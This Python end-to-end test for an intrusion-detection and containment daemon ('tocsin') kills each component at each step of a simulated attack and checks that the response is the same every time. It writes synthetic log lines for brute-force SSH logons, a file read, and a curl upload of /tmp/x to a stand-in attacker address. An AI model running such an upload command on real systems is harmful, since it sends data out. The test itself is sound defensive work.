#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""The story with real processes, in which each role is killed at each step once: whatever was
killed when, the outcome is the same.

usage: kill.py BUILD-FOLDER [ROLE…]     as root; makes its own namespaces

Steps: the lines of five failed log-ons, of one that succeeds, of files read, of files sent out.
Outcome: findings, incidents, actions and what came of them, the set in the kernel, the account's
lock; and the ledger verifies.
"""
import datetime
import json
import os
import pathlib
import shutil
import signal
import subprocess
import sys
import textwrap
import time

ROOT = pathlib.Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / 'tools/story'))
import stage  # noqa: E402
from stage import ATTACKER, inside, run, wait_for  # noqa: E402

ROLES = ['tocsind', 'ingest', 'ledger', 'detect', 'correlate', 'incident', 'contain', 'contain-net',
         'contain-account', 'query', 'inform']
LOG, AUDIT = '/var/log/auth.log', '/var/log/audit/audit.log'
BUILD = pathlib.Path(sys.argv[1]).resolve()


def stamp():
    return datetime.datetime.now(datetime.timezone.utc).isoformat(timespec='microseconds')


def sshd(said, pid):
    return f'{stamp()} registry sshd[{pid}]: {said} for clerk from {ATTACKER} port {50000 + pid} ssh2\n'


def audit(serial, *records):
    """The records of one audit event: they share their stamp."""
    at = f'{time.time():.3f}'
    return ''.join(f'node=registry type={kind} msg=audit({at}:{serial}): {rest}\n' for kind, rest in records)


SYSCALL = ('arch=c000003e syscall={0} success=yes exit=3 a0=ffffff9c items=1 ppid=900 pid=901 auid=3001 uid=3001 '
           'gid=3001 euid=3001 suid=3001 fsuid=3001 egid=3001 sgid=3001 fsgid=3001 tty=pts0 ses=7 comm="{1}" '
           'exe="/usr/bin/{1}" key="{2}"\x1dARCH=x86_64 SYSCALL={3} AUID="clerk" UID="clerk"')


def step_failures():
    append(LOG, ''.join(sshd('Failed password', 100 + i) for i in range(6)))


def step_success():
    append(LOG, sshd('Accepted password', 200))


def step_read():
    append(AUDIT, audit(501, ('SYSCALL', SYSCALL.format(257, 'cat', 'tocsin-case', 'openat')),
                        ('CWD', 'cwd="/home/clerk"'),
                        ('PATH', 'item=0 name="/srv/cases/AC-2026-014/witness-list.txt" inode=7 dev=fe:00 '
                         'mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL\x1dOUID="root" OGID="root"'),
                        ('EOE', '')))


def step_send():
    append(AUDIT, audit(502, ('SYSCALL', SYSCALL.format(59, 'curl', 'tocsin-exec', 'execve')),
                        ('EXECVE', 'argc=4 a0="curl" a1="-T" a2="/tmp/x" a3="http://203.0.113.66:8080/1"'),
                        ('EOE', '')))


STEPS = [step_failures, step_success, step_read, step_send]


def append(path, text):
    with open(path, 'a', encoding='utf-8') as out:
        out.write(text)


class Run:
    """One tocsind on a fresh state, one story, perhaps one kill."""

    def __init__(self, scene, number):
        self.scene = scene
        self.number = number
        self.session = None
        self.daemon = None

    def __enter__(self):
        for path in (LOG, AUDIT):
            pathlib.Path(path).parent.mkdir(exist_ok=True)
            pathlib.Path(path).write_text('', encoding='ascii')
        for entry in pathlib.Path('/var/lib/tocsin').iterdir():
            shutil.rmtree(entry) if entry.is_dir() else entry.unlink()
        run('usermod', '-U', '-e', '', 'clerk', check=False)
        self.session = subprocess.Popen(['setpriv', '--reuid', '3001', '--regid', '3001', '--clear-groups',
                                         'sleep', '600'])
        self.start()
        return self

    def __exit__(self, *_):
        self.session.kill()
        self.session.wait()
        if self.daemon.poll() is None:
            self.daemon.terminate()
            try:
                self.daemon.wait(timeout=20)
            except subprocess.TimeoutExpired:
                self.daemon.kill()
                raise
        run('nft', 'flush', 'ruleset', check=False)

    def start(self):
        self.daemon = self.scene.start(f'tocsind-{self.number}', str(BUILD / 'tocsind'), '--foreground')
        wait_for(lambda: self.ask('status') is not None, 'tocsind', 30)

    def ask(self, *words):
        try:
            done = subprocess.run([str(BUILD / 'tocsin'), *words, '--json'], stdout=subprocess.PIPE,
                                  stderr=subprocess.DEVNULL, check=False, timeout=20)
        except subprocess.TimeoutExpired:
            return None
        return json.loads(done.stdout) if done.returncode == 0 and done.stdout else None

    def kill(self, role):
        if role == 'tocsind':
            self.daemon.send_signal(signal.SIGKILL)
            self.daemon.wait()
            self.start()
            return
        pid = wait_for(lambda: pid_of(role), f'the process {role}', 20)
        os.kill(pid, signal.SIGKILL)

    def outcome(self):
        incidents = (self.ask('incident', 'list') or {}).get('incidents', [])
        shown = [self.ask('incident', 'show', i['id']) for i in incidents]
        if not all(shown):
            return None
        actions = (self.ask('actions') or {}).get('actions', [])
        expiry = run('getent', 'shadow', 'clerk').strip().split(':')
        return {
            'incidents': sorted(i['id'] for i in incidents),
            'findings': sorted(f['title'] for s in shown for f in s['findings']),
            'effects': sorted((e['asset'], e['kind'], e['status']) for s in shown for e in s['effects']),
            'actions': sorted((a['kind'], a.get('verdict'), a.get('outcome')) for a in actions),
            'blocked': ATTACKER in run('nft', 'list', 'ruleset'),
            'locked': expiry[1].startswith('!') and expiry[7] == '1',
            'session': self.session.poll() is None,
        }


def pid_of(role):
    for entry in pathlib.Path('/proc').iterdir():
        if entry.name.isdigit():
            try:
                if os.readlink(entry / 'exe').endswith(f'/{role}'):
                    return int(entry.name)
            except OSError:
                continue
    return None


def complete(outcome):
    """What every run must come to, whatever was killed."""
    done = {kind for kind, verdict, result in outcome['actions'] if verdict == 'allowed' and result == 'effective'}
    return (len(outcome['incidents']) == 1 and {'block-address', 'end-session', 'suspend-account'} <= done and
            outcome['blocked'] and outcome['locked'] and not outcome['session'] and outcome['effects'])


def play(scene, number, role=None, at=None):
    with Run(scene, number) as story:
        for index, step in enumerate(STEPS):
            step()
            if index == at:
                story.kill(role)
            time.sleep(0.25)
        wait_for(lambda: (lambda o: o and complete(o))(story.outcome()), 'the outcome', 60, fatal=False)
        time.sleep(0.4)  # what would come twice has come
        outcome = story.outcome()
        verify = subprocess.run([str(BUILD / 'tocsin'), 'evidence', 'verify'], stdout=subprocess.PIPE,
                                stderr=subprocess.STDOUT, text=True, check=False)
        return outcome, verify


def configure():
    folder = pathlib.Path('/etc/tocsin')
    folder.mkdir(exist_ok=True)
    for name in ('assets.csv', 'history.yml'):
        shutil.copy(ROOT / 'tools/story' / name, folder / name)
    (folder / 'tocsin.conf').write_text(textwrap.dedent(f'''\
        [daemon]
        [ingest]
        file = sshd-auth {LOG}
        file = audit T3 {AUDIT}
        journal = no
        [ledger]
        origin = kill.example/tocsin
        [detect]
        rules = {ROOT}/rules
        [incident]
        assets = /etc/tocsin/assets.csv
        history = /etc/tocsin/history.yml
        playbooks = {ROOT}/playbooks
        [contain]
        mode = enforce
        never = {stage.ADMIN}/32
        '''), encoding='utf-8')


def witness(scene):
    """A listener on port 22 and a connection of the attacker's to it: a handshake to see."""
    code = ('import socket\ns=socket.create_server(("192.0.2.10",22))\nk=[]\n'
            'while True: k.append(s.accept()[0])\n')
    scene.start('listener', '/usr/bin/python3', '-c', code)
    wait_for(lambda: f'{stage.COURT}:22' in run('ss', '-ltn'), 'the listener')


def greet(scene):
    code = (f'import socket,time\ns=socket.create_connection(("{stage.COURT}",22),3,("{ATTACKER}",0))\n'
            'time.sleep(600)\n')
    return scene.start('greeter', '/usr/bin/python3', '-c', code, host='outside')


def main():
    folder = pathlib.Path(BUILD) / 'e2e-kill'
    if os.geteuid() != 0 or stage.missing():
        print('skip  kill: needs root and the packages of ./dev deps demo')
        return 77
    if os.environ.get('TOCSIN_STAGE') is None:
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir(parents=True)
    if os.environ.get('TOCSIN_STAGE') != 'inner':
        status = stage.enter(folder, [os.path.abspath(__file__), *sys.argv[1:]], audit=False)
        if status == 0:
            shutil.rmtree(folder)  # a copy of /etc is in it
        return status
    scene = stage.Stage(folder)
    scene.build(services=False)
    configure()
    witness(scene)
    failed, number, want = 0, 0, None
    wanted = sys.argv[2:] or ROLES
    for role, at in [(None, None), *((r, s) for r in wanted for s in range(len(STEPS)))]:
        greeter = greet(scene)
        outcome, verify = play(scene, number, role, at)
        greeter.kill()
        greeter.wait()
        number += 1
        name = f'{role} killed after {STEPS[at].__name__[5:]}' if role else 'nothing killed'
        want = want or outcome
        good = outcome and complete(outcome) and outcome == want and verify.returncode == 0
        print(f'{"ok" if good else "FAILED"}  {name}', flush=True)
        if not good:
            failed += 1
            for key in want:
                if not outcome or outcome[key] != want[key]:
                    print(f'  {key}: got {outcome and outcome[key]}\n    want {want[key]}')
            if verify.returncode != 0:
                print(verify.stdout)
            if role is None:
                break
    scene.end()
    print(f'{number - failed} passed, {failed} failed')
    return 1 if failed else 0


if __name__ == '__main__':
    sys.exit(main())
